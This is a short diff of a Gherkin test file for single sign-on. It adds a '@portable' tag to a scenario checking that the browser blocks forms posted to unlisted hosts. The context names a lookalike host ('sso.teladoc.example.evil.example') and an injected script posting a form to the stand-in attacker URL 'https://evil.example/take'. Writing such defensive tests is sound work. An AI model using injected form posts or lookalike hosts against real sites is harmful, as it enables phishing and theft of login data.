@@ -57,7 +57,7 @@ Feature: Single sign-on
         | https://sso.teladoc.example.evil.example/ |
         | https://sso.teladoc.example:8443/saml/acs |
 
-    @SSO-024
+    @portable @SSO-024
     Scenario: The browser blocks forms to hosts that are not on the list
       When a visitor opens "/login"
       And an injected script posts a form to "https://evil.example/take"
